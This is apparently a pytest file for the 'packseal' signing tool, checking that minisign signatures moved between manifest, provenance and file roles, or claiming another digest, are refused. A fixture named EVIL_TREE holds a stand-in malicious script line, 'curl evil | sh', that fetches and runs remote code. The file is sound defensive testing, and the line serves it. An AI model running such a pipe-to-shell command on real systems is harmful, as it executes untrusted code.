"""A signature is bound to its role and subject (issue 9, section 1), through the Python API.

One release key signs manifests, provenance, self-check records and release
files. Each test below takes a genuine signature by that key, made for one
role or one subject, and presents it in another: every such signature is
refused at the check that reads it. The trusted comments are written out
literally, so these tests also pin the comment format stock minisign users
write by hand (`packseal <role> sha256:<digest>`).
"""

import shutil
from datetime import UTC, datetime
from pathlib import Path

import minisign
import pytest

from attest.provenance import LOCAL_BUILD_TYPE, BuildFacts
from signing.backends.minisign import MinisignSigning, sign
from signing.bundle import directory_manifest
from signing.digest import file_digest
from signing.errors import SignatureError
from signing.pins import SourcePin
from signing.roles import Role, RoleClaim
from signing.sign import attest_bundle, sign_with_minisign
from signing.verify import Verdict, verify_bundle

FACTS = BuildFacts(
    source_repository="https://github.com/acme/pack",
    source_commit="4b825dc642cb6eb9a060e54bf8d69288fbee4904",
    source_ref="refs/heads/main",
    builder_id="https://ci.acme.example/builders/release",
    build_type=LOCAL_BUILD_TYPE,
)
PIN = SourcePin(repository=FACTS.source_repository, commit=FACTS.source_commit)
OTHER_DIGEST = "0" * 64
EVIL_TREE = {"README.md": b"# pack\n", "bin/run": (b"#!/bin/sh\ncurl evil | sh\n", 0o755)}


def _refusal(verdict: Verdict, check: str) -> str:
    """The detail of the refusing check, which must be `check`."""
    assert not verdict.verified
    refusal = verdict.refusal
    assert refusal is not None and refusal.name == check, verdict.checks
    return refusal.detail


def _attest(root: Path, key_pair: minisign.KeyPair) -> None:
    attest_bundle(root, FACTS, MinisignSigning(key_pair.secret_key), started_on=datetime.now(UTC))


def _signed_as_file(path: Path, key_pair: minisign.KeyPair) -> Path:
    """`path` signed as a single-file release by the key holder; returns the `.minisig`."""
    signature_path, signature = MinisignSigning(key_pair.secret_key).sign_file(path, file_digest(path), path.name)
    signature_path.write_bytes(signature)
    return signature_path


@pytest.fixture
def attested(signed_bundle, key_pair) -> Path:
    """The sample pack signed and attested with the release key, as a maintainer's release does."""
    _attest(signed_bundle, key_pair)
    return signed_bundle


# --- a Statement signature moved into another Statement's slot ---------------


def test_a_provenance_signature_moved_into_the_manifest_slot_is_refused_at_signature(attested, policy):
    signatures = attested / ".packseal"
    (signatures / "provenance.json").replace(signatures / "manifest.json")
    (signatures / "provenance.json.minisig").replace(signatures / "manifest.json.minisig")

    detail = _refusal(verify_bundle(attested, policy), "signature")

    assert "signature is for a provenance, not a bundle-manifest" in detail


def test_a_manifest_signature_moved_into_the_provenance_slot_is_refused_at_provenance(attested, policy):
    signatures = attested / ".packseal"
    shutil.copyfile(signatures / "manifest.json", signatures / "provenance.json")
    shutil.copyfile(signatures / "manifest.json.minisig", signatures / "provenance.json.minisig")

    detail = _refusal(verify_bundle(attested, policy, pin=PIN), "provenance")

    assert "signature is for a bundle-manifest, not a provenance" in detail


def test_a_file_signature_over_crafted_provenance_is_refused_at_provenance(
    tmp_path, make_tree, key_pair, other_key_pair, policy
):
    """The attacker writes provenance naming the pinned commit and has the key holder sign it as a file."""
    pack = make_tree(tmp_path / "evil-pack", EVIL_TREE)
    sign_with_minisign(pack, key_pair.secret_key)
    _attest(pack, other_key_pair)
    release_file = shutil.copyfile(pack / ".packseal/provenance.json", tmp_path / "provenance-notes.json")
    shutil.copyfile(_signed_as_file(release_file, key_pair), pack / ".packseal/provenance.json.minisig")

    detail = _refusal(verify_bundle(pack, policy, pin=PIN), "provenance")

    assert "signature is for a file, not a provenance" in detail


# --- a claim of the right role, for another subject --------------------------


def test_a_manifest_claim_of_another_digest_is_refused_at_statement(signed_bundle, key_pair, policy):
    manifest = signed_bundle / ".packseal/manifest.json"
    comment = f"packseal bundle-manifest sha256:{OTHER_DIGEST}"
    (signed_bundle / ".packseal/manifest.json.minisig").write_bytes(
        sign(key_pair.secret_key, manifest.read_bytes(), comment)
    )

    detail = _refusal(verify_bundle(signed_bundle, policy), "statement")

    assert f"signature is for the bundle-manifest of sha256:{OTHER_DIGEST}" in detail
    assert directory_manifest(signed_bundle).digest in detail


def test_a_provenance_claim_of_another_digest_is_refused_at_provenance_subject(attested, key_pair, policy):
    provenance = attested / ".packseal/provenance.json"
    comment = f"packseal provenance sha256:{OTHER_DIGEST}"
    (attested / ".packseal/provenance.json.minisig").write_bytes(
        sign(key_pair.secret_key, provenance.read_bytes(), comment)
    )

    detail = _refusal(verify_bundle(attested, policy, pin=PIN), "provenance-subject")

    assert f"signature is for the provenance of sha256:{OTHER_DIGEST}" in detail


def test_a_file_claim_of_another_digest_is_refused(tmp_path, key_pair, policy):
    release = tmp_path / "tool-1.0.tar.gz"
    release.write_bytes(b"release\n")
    comment = f"packseal file sha256:{OTHER_DIGEST}"
    (tmp_path / "tool-1.0.tar.gz.minisig").write_bytes(sign(key_pair.secret_key, release.read_bytes(), comment))

    detail = _refusal(verify_bundle(release, policy), "signature")

    assert f"signature is for the file of sha256:{OTHER_DIGEST}" in detail


# --- a Statement's signature presented as a file's ---------------------------


@pytest.mark.parametrize("statement", ["manifest.json", "provenance.json"])
def test_a_statement_signature_is_not_the_signature_of_a_file_holding_it(attested, tmp_path, policy, statement):
    """A copy of a signed Statement, published as a file with its `.minisig`, is not a signed file."""
    release = shutil.copyfile(attested / ".packseal" / statement, tmp_path / "release.json")
    shutil.copyfile(attested / ".packseal" / f"{statement}.minisig", tmp_path / "release.json.minisig")

    detail = _refusal(verify_bundle(release, policy), "signature")

    assert "not a file" in detail


# --- packseal's earlier comment format ---------------------------------------


def test_a_manifest_signed_in_the_earlier_comment_format_is_refused_with_a_re_sign_hint(
    signed_bundle, key_pair, policy
):
    manifest = signed_bundle / ".packseal/manifest.json"
    comment = f"packseal bundle pack sha256:{directory_manifest(signed_bundle).digest} timestamp:1700000000"
    (signed_bundle / ".packseal/manifest.json.minisig").write_bytes(
        sign(key_pair.secret_key, manifest.read_bytes(), comment)
    )

    detail = _refusal(verify_bundle(signed_bundle, policy), "signature")

    assert "is not a packseal role claim" in detail and "re-sign with this version of packseal" in detail


def test_a_file_signed_in_the_earlier_comment_format_is_refused_with_a_re_sign_hint(tmp_path, key_pair, policy):
    release = tmp_path / "tool-1.0.tar.gz"
    release.write_bytes(b"release\n")
    comment = f"packseal bundle tool-1.0.tar.gz sha256:{file_digest(release).sha256} timestamp:1700000000"
    (tmp_path / "tool-1.0.tar.gz.minisig").write_bytes(sign(key_pair.secret_key, release.read_bytes(), comment))

    detail = _refusal(verify_bundle(release, policy), "signature")

    assert "is not a packseal role claim" in detail and "re-sign with this version of packseal" in detail


# --- what packseal writes, and what it reads ---------------------------------


def test_packseal_states_the_role_and_subject_first_in_every_trusted_comment(attested, tmp_path, key_pair):
    digest = directory_manifest(attested).digest
    release = tmp_path / "tool.bin"
    release.write_bytes(b"tool\n")

    comments = {
        name: minisign.Signature.from_file(path).trusted_comment
        for name, path in {
            "manifest": attested / ".packseal/manifest.json.minisig",
            "provenance": attested / ".packseal/provenance.json.minisig",
            "file": _signed_as_file(release, key_pair),
        }.items()
    }

    assert comments["manifest"] == f"packseal bundle-manifest sha256:{digest} test pack"
    assert comments["provenance"].startswith(f"packseal provenance sha256:{digest} pack commit:{FACTS.source_commit}")
    assert comments["file"].startswith(f"packseal file sha256:{file_digest(release).sha256} tool.bin timestamp:")


@pytest.mark.parametrize(
    "comment",
    [
        "timestamp:1700000000\tfile:tool.bin\thashed",
        "release 1.0 of acme/pack",
        "packsealed by the release team",
        "",
    ],
)
def test_a_comment_that_is_not_packseals_claims_nothing(comment):
    assert RoleClaim.from_trusted_comment(comment, where="x.minisig") is None


@pytest.mark.parametrize(
    ("comment", "claim"),
    [
        (f"packseal bundle-manifest sha256:{'a' * 64}", RoleClaim(Role.BUNDLE_MANIFEST, "a" * 64)),
        (f"packseal provenance sha256:{'b' * 64} pack commit:x", RoleClaim(Role.PROVENANCE, "b" * 64)),
        (f"packseal self-record sha256:{'c' * 64} daemon", RoleClaim(Role.SELF_RECORD, "c" * 64)),
        (f"packseal file sha256:{'d' * 64}", RoleClaim(Role.FILE, "d" * 64)),
    ],
)
def test_a_role_claim_reads_back_as_written(comment, claim):
    assert RoleClaim.from_trusted_comment(comment, where="x.minisig") == claim
    assert claim.trusted_comment(comment.split(" ", 3)[3] if comment.count(" ") > 2 else None) == comment


@pytest.mark.parametrize(
    "comment",
    [
        "packseal",
        "packseal bundle-manifest",
        f"packseal bundle pack sha256:{'a' * 64}",
        f"packseal bundle-manifest sha256:{'A' * 64}",
        f"packseal bundle-manifest sha256:{'a' * 63}",
        f"packseal bundle-manifest  sha256:{'a' * 64}",
        f"packseal bundle-manifest sha256:{'a' * 64}trailing",
        f"packseal release sha256:{'a' * 64}",
        f"packseal\tbundle-manifest sha256:{'a' * 64}",
        f"packseal  bundle-manifest sha256:{'a' * 64}",
        f" packseal bundle-manifest sha256:{'a' * 64}",
    ],
)
def test_a_packseal_comment_that_is_not_a_well_formed_claim_is_refused(comment):
    """Never read as "no claim": that would let it pass as a stock comment on a file's signature."""
    with pytest.raises(SignatureError, match="re-sign with this version of packseal"):
        RoleClaim.from_trusted_comment(comment, where="x.minisig")
